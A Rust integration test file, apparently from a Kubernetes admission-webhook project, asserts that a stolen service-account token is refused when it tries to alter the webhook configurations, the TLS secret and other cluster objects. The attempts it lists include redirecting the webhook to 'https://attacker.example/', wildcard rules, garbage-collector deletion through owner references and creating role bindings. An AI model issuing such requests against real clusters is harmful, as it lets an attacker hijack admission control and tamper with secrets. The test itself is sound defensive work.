//! Attempts with a stolen token of podwright. The policy refuses each, and podwright's objects stay unchanged.

use serde_json::{Value, json};

use super::{Bound, EVENTS, GROUP, KINDS, SECRET, bound, configuration, event, is_refusal, pointer};

const EVENTS_OF_CORE: &str = "/api/v1/namespaces/default";

/// A change and its kind of request.
struct Attempt {
    request: String,
    content_type: &'static str,
    body: Value,
}

impl Attempt {
    fn new(request: impl Into<String>, body: Value) -> Self {
        let request = request.into();
        let content_type = if request.starts_with("PATCH ") { "merge-patch+json" } else { "json" };
        Self { request, content_type, body }
    }

    fn json_patch(path: &str, operations: Value) -> Self {
        Self { request: format!("PATCH {path}"), content_type: "json-patch+json", body: operations }
    }

    fn strategic(path: &str, body: Value) -> Self {
        Self { request: format!("PATCH {path}"), content_type: "strategic-merge-patch+json", body }
    }

    fn apply(path: &str, body: Value) -> Self {
        let request = format!("PATCH {path}?fieldManager=other&force=true");
        Self { request, content_type: "apply-patch+yaml", body }
    }
}

#[test]
#[ignore = "needs a control plane: cargo xtask test"]
fn a_stolen_token_changes_nothing_of_a_webhook_configuration_but_its_bundles() {
    let bound = bound();
    for kind in KINDS {
        are_refused(bound, of_a_configuration(bound, kind));
    }
    // Removing or reordering webhooks needs two of them.
    are_refused(bound, of_two_webhooks(bound));
}

#[test]
#[ignore = "needs a control plane: cargo xtask test"]
fn a_stolen_token_changes_nothing_of_the_secret_but_podwrights_keys() {
    let bound = bound();
    are_refused(bound, of_the_secret());
}

#[test]
#[ignore = "needs a control plane: cargo xtask test"]
fn a_stolen_token_changes_no_other_object_whatever_rbac_allows() {
    let bound = bound();
    are_refused(bound, of_other_objects(bound));
}

fn are_refused(bound: &Bound, attempts: Vec<Attempt>) {
    let before = bound.objects();
    for Attempt { request, content_type, body } in attempts {
        let answer = bound.account.send_as(&request, content_type, &body);
        assert!(is_refusal(&answer), "{request} {content_type} {body}: {} {}", answer.status, answer.body);
    }
    assert_eq!(bound.objects(), before);
}

/// Attempts on a configuration of either kind.
fn of_a_configuration(bound: &Bound, kind: &str) -> Vec<Attempt> {
    let path = configuration(kind);
    let object = bound.read(&path);
    let target = Target { bundle: bound.other_bundle(), name: object["webhooks"][0]["name"].clone(), path, object };
    let mut attempts = target.another_address();
    attempts.extend(target.other_fields());
    attempts.extend(target.an_empty_bundle());
    attempts.extend(target.another_list());
    attempts.extend(target.other_metadata());
    attempts.extend(target.another_object(kind));
    attempts
}

/// One of podwright's webhook configurations.
struct Target {
    path: String,
    object: Value,
    /// The name of the first webhook.
    name: Value,
    /// A bundle that the account may set.
    bundle: String,
}

impl Target {
    fn json_patch(&self, operations: Value) -> Attempt {
        Attempt::json_patch(&self.path, operations)
    }

    fn removal(&self, pointer: &str) -> Attempt {
        self.json_patch(json!([{"op": "remove", "path": pointer}]))
    }

    /// A strategic merge patch of the first webhook.
    fn merged(&self, fields: &Value) -> Attempt {
        let mut webhook = json!({"name": self.name});
        webhook.as_object_mut().expect("an object").extend(fields.as_object().expect("an object").clone());
        Attempt::strategic(&self.path, json!({"webhooks": [webhook]}))
    }

    /// A server-side apply of one webhook.
    fn applied(&self, webhook: &Value) -> Attempt {
        let [version, kind] = ["apiVersion", "kind"].map(|field| &self.object[field]);
        let metadata = json!({"name": "00-podwright"});
        let body = json!({"apiVersion": version, "kind": kind, "metadata": metadata, "webhooks": [webhook]});
        Attempt::apply(&self.path, body)
    }

    fn attack(&self) -> Value {
        json!({"url": "https://attacker.example/", "caBundle": self.bundle})
    }

    /// One attempt for each kind of request.
    fn another_address(&self) -> Vec<Attempt> {
        let mut put = self.object.clone();
        put["webhooks"][0]["clientConfig"] = self.attack();
        let service = json!({"service": {"name": "other", "namespace": "other"}});
        vec![
            self.json_patch(json!([{"op": "replace", "path": "/webhooks/0/clientConfig", "value": self.attack()}])),
            Attempt::new(format!("PATCH {}", self.path), json!({"webhooks": put["webhooks"]})),
            Attempt::new(format!("PUT {}", self.path), put),
            self.merged(&json!({"clientConfig": {"service": {"port": 8443}}})),
            self.applied(&json!({"name": self.name, "clientConfig": service})),
            self.removal("/webhooks/0/clientConfig/service/path"),
        ]
    }

    /// A change of the bundle does not hide another change.
    fn other_fields(&self) -> Vec<Attempt> {
        let every = json!(["*"]);
        let rules = json!([{
            "apiGroups": every, "apiVersions": every, "operations": every, "resources": ["*/*"], "scope": "*",
        }]);
        let both = json!([
            {"op": "replace", "path": pointer(0), "value": self.bundle},
            {"op": "replace", "path": "/webhooks/0/rules", "value": rules},
        ]);
        vec![
            self.json_patch(both),
            self.merged(&json!({"clientConfig": {"caBundle": self.bundle}, "timeoutSeconds": 1})),
            self.merged(&json!({"rules": rules})),
            self.merged(&json!({"failurePolicy": "Fail"})),
            self.merged(&json!({"namespaceSelector": {"$patch": "replace"}})),
            self.removal("/webhooks/0/namespaceSelector"),
            self.removal("/webhooks/0/matchConditions"),
            self.removal("/webhooks/0/matchConditions/0"),
        ]
    }

    fn an_empty_bundle(&self) -> Vec<Attempt> {
        let replaced = |value: Value| self.json_patch(json!([{"op": "replace", "path": pointer(0), "value": value}]));
        vec![
            self.removal(&pointer(0)),
            replaced(json!("")),
            replaced(Value::Null),
            self.merged(&json!({"clientConfig": {"caBundle": null}})),
        ]
    }

    fn another_list(&self) -> Vec<Attempt> {
        let added = json!({
            "name": "other.podwright.dev", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "clientConfig": self.attack(),
        });
        let at = |path: &str| self.json_patch(json!([{"op": "add", "path": path, "value": added}]));
        let name = json!([{"op": "replace", "path": "/webhooks/0/name", "value": "other.podwright.dev"}]);
        vec![
            at("/webhooks/-"),
            at("/webhooks/0"),
            self.applied(&added),
            self.removal("/webhooks"),
            self.json_patch(name),
            self.merged(&json!({"$patch": "delete"})),
        ]
    }

    /// With an absent owner, the garbage collector deletes the configuration.
    fn other_metadata(&self) -> Vec<Attempt> {
        let owner = json!([{"apiVersion": "v1", "kind": "Namespace", "name": "absent", "uid": "absent"}]);
        let changes = [
            json!({"ownerReferences": owner}),
            json!({"ownerReferences": null}),
            json!({"finalizers": ["example.com/one"]}),
            json!({"finalizers": null}),
            json!({"labels": {"app.kubernetes.io/name": null}}),
            json!({"labels": {"other": "yes"}}),
            json!({"annotations": {"cert-manager.io/inject-ca-from": "a/b"}}),
            json!({"annotations": null}),
        ];
        let patch = |change| Attempt::new(format!("PATCH {}", self.path), json!({"metadata": change}));
        changes.map(patch).into()
    }

    /// Deletes the configuration, or creates another.
    fn another_object(&self, kind: &str) -> Vec<Attempt> {
        vec![
            Attempt::new(format!("DELETE {}", self.path), Value::Null),
            Attempt::new(format!("DELETE {GROUP}/{kind}"), Value::Null),
            Attempt::new(format!("POST {GROUP}/{kind}"), renamed(&self.object)),
            Attempt::apply(&format!("{GROUP}/{kind}/other"), renamed(&self.object)),
        ]
    }
}

/// The object under another name, ready to be created.
fn renamed(object: &Value) -> Value {
    let mut renamed = object.clone();
    renamed["metadata"] = json!({"name": "other"});
    renamed
}

fn of_two_webhooks(bound: &Bound) -> Vec<Attempt> {
    let path = configuration(KINDS[0]);
    let object = bound.read(&path);
    let [first, second] = [0, 1].map(|index| object["webhooks"][index].clone());
    let mut renamed = [first.clone(), second.clone()];
    renamed[0]["name"] = second["name"].clone();
    renamed[1]["name"] = first["name"].clone();
    let webhooks = |webhooks: Value| Attempt::new(format!("PATCH {path}"), json!({"webhooks": webhooks}));
    vec![
        webhooks(json!([first])),
        webhooks(json!([second, first])),
        webhooks(json!(renamed)),
        Attempt::json_patch(&path, json!([{"op": "remove", "path": "/webhooks/1"}])),
        Attempt::json_patch(&path, json!([{"op": "move", "from": "/webhooks/1", "path": "/webhooks/0"}])),
        Attempt::json_patch(&path, json!([{"op": "remove", "path": pointer(1)}])),
        Attempt::json_patch(&path, json!([{"op": "replace", "path": "/webhooks/1/timeoutSeconds", "value": 30}])),
    ]
}

fn of_the_secret() -> Vec<Attempt> {
    let owner = json!([{"apiVersion": "v1", "kind": "Namespace", "name": "absent", "uid": "absent"}]);
    let patch = |body: Value| Attempt::new(format!("PATCH {SECRET}"), body);
    vec![
        patch(json!({"data": {"other": "YQ=="}})),
        patch(json!({"data": {"foreign": "Yg=="}})),
        patch(json!({"data": {"foreign": null}})),
        patch(json!({"data": null})),
        patch(json!({"stringData": {"other": "a"}})),
        patch(json!({"data": {"tls.crt": "Yg==", "other": "YQ=="}})),
        patch(json!({"immutable": true})),
        patch(json!({"metadata": {"labels": null}})),
        patch(json!({"metadata": {"annotations": {"a": "other"}}})),
        patch(json!({"metadata": {"finalizers": ["example.com/one"]}})),
        patch(json!({"metadata": {"ownerReferences": owner}})),
        Attempt::json_patch(SECRET, json!([{"op": "remove", "path": "/data/foreign"}])),
        Attempt::strategic(SECRET, json!({"metadata": {"labels": {"other": "yes"}}})),
        Attempt::new(format!("DELETE {SECRET}"), Value::Null),
    ]
}

fn of_other_objects(bound: &Bound) -> Vec<Attempt> {
    bound.control_plane.run(&["create", "secret", "generic", "podwright-tls", "-n", "default"]).unwrap();
    bound.control_plane.run(&["create", "secret", "generic", "other", "-n", "podwright-system"]).unwrap();
    bound.control_plane.run(&["create", "deployment", "other", "--image=other", "-n", "default"]).unwrap();
    let other = renamed(&bound.read(&configuration(KINDS[0])));
    assert_eq!(bound.admin.send(&format!("POST {GROUP}/{}", KINDS[0]), &other).status, 201);
    let bundle = json!([{"op": "replace", "path": pointer(0), "value": bound.other_bundle()}]);
    let mut attempts = vec![
        Attempt::json_patch(&format!("{GROUP}/{}/other", KINDS[0]), bundle),
        Attempt::new(format!("DELETE {GROUP}/{}/other", KINDS[0]), Value::Null),
    ];
    attempts.extend(of_podwrights_namespace());
    attempts.extend(of_events());
    attempts.extend(of_the_cluster());
    attempts
}

fn of_podwrights_namespace() -> Vec<Attempt> {
    let system = "/api/v1/namespaces/podwright-system";
    let data = json!({"data": {"tls.crt": "YQ=="}});
    let named = json!({"metadata": {"name": "other"}});
    let of = json!({"namespace": "podwright-system"});
    let event = json!({"metadata": {"name": "one", "namespace": "podwright-system"}, "involvedObject": of});
    vec![
        Attempt::new(format!("PATCH {system}/secrets/other"), data),
        Attempt::new(format!("POST {system}/secrets"), json!({"metadata": {"generateName": "podwright-tls"}})),
        Attempt::new(format!("DELETE {system}/secrets"), Value::Null),
        Attempt::new(format!("POST {system}/configmaps"), named),
        Attempt::new(format!("POST {system}/events"), event),
        Attempt::new(format!("POST {system}/serviceaccounts/podwright/token"), json!({"spec": {"audiences": []}})),
        Attempt::new(format!("PATCH {system}/serviceaccounts/podwright"), json!({"metadata": {"labels": {"a": "b"}}})),
    ]
}

/// Events of others, and other changes of events than those of the component `events`.
fn of_events() -> Vec<Attempt> {
    let events = format!("{EVENTS}/events");
    let other = |change: Value| {
        let mut event = event("other");
        event.as_object_mut().expect("an object").extend(change.as_object().expect("an object").clone());
        Attempt::new(format!("POST {events}"), event)
    };
    vec![
        other(json!({"reportingController": "kubelet"})),
        other(json!({"reason": "FailedCreate"})),
        Attempt::new(format!("POST {EVENTS_OF_CORE}/events"), json!({"metadata": {"name": "one"}})),
        Attempt::new(format!("DELETE {events}"), Value::Null),
    ]
}

fn of_the_cluster() -> Vec<Attempt> {
    let (core, rbac) = ("/api/v1/namespaces/default", "/apis/rbac.authorization.k8s.io/v1");
    let deployment = "/apis/apps/v1/namespaces/default/deployments/other";
    let named = json!({"metadata": {"name": "other"}});
    let role = json!({"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"});
    let pod = json!({"metadata": {"name": "one"}, "spec": {"containers": [{"name": "one", "image": "other"}]}});
    vec![
        Attempt::new(format!("PATCH {core}/secrets/podwright-tls"), json!({"data": {"tls.crt": "YQ=="}})),
        Attempt::new(format!("POST {core}/pods"), pod),
        Attempt::new(format!("PATCH {core}"), json!({"metadata": {"labels": {"other": "yes"}}})),
        Attempt::new(format!("PATCH {deployment}/scale"), json!({"spec": {"replicas": 9}})),
        Attempt::new(format!("PATCH {deployment}/status"), json!({"status": {"replicas": 9}})),
        Attempt::new("POST /apis/coordination.k8s.io/v1/namespaces/default/leases", named.clone()),
        Attempt::new("POST /api/v1/nodes", named.clone()),
        Attempt::new(
            format!("POST {rbac}/clusterrolebindings"),
            json!({"metadata": {"name": "other"}, "roleRef": role}),
        ),
        Attempt::new(format!("POST {rbac}/clusterroles"), named),
        Attempt::new(format!("DELETE {rbac}/clusterrolebindings/everything"), Value::Null),
    ]
}
